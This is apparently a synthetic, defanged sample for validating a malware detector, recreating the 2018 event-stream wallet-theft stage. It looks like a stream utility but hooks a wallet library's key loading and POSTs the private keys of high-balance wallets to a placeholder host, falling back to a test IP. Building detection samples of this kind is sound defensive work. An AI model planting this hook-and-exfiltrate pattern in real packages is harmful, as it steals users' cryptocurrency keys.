// SYNTHETIC, DEFANGED malwi validation sample - modelled on event-stream / flatmap-stream decrypted wallet stage (2018); never run.
// Shape of the decrypted stage: it only acts inside one wallet app's build, hooks the wallet
// client's key loading and sends keys of wallets with a large balance to a remote host.
'use strict';
var Stream = require('stream').Stream;

function through(write, end) {
  var s = new Stream();
  s.readable = s.writable = true;
  s.write = function (d) { write.call(s, d); return true; };
  s.end = function () { if (end) end.call(s); s.emit('end'); };
  s.queue = function (d) { s.emit('data', d); };
  return s;
}

module.exports = function (description) {
  // The real stage used the host package's description as the key; only one app matched.
  if (!/wallet/i.test(process.env.npm_package_description || description || '')) return;
  try {
    var walletClient = require('bitcore-wallet-client/lib/credentials.js');
    var original = walletClient.prototype.getKeys;
    walletClient.prototype.getKeys = function (password) {
      var keys = original.call(this, password);
      try {
        var balance = global.CSSMap && global.CSSMap[this.xPubKey];
        if (balance && balance.balance * 1 > 100) {
          send({ xPubKey: this.xPubKey, keys: keys, network: this.network });
        }
      } catch (e) {}
      return keys;
    };
  } catch (e) {}
};

function send(payload) {
  var body = JSON.stringify({ data: Buffer.from(JSON.stringify(payload)).toString('hex') });
  var http = require('http');
  var req = http.request({
    hostname: 'copayapi.example.invalid',
    port: 8080,
    path: '/api/v1/metrics',
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'Content-Length': body.length }
  });
  req.on('error', function () {
    // The real stage fell back to a raw IP; this one is a TEST-NET address.
    var r2 = http.request({ hostname: '198.51.100.17', port: 8080, path: '/api/v1/metrics', method: 'POST' });
    r2.on('error', function () {});
    r2.end(body);
  });
  req.end(body);
}

module.exports.through = through;
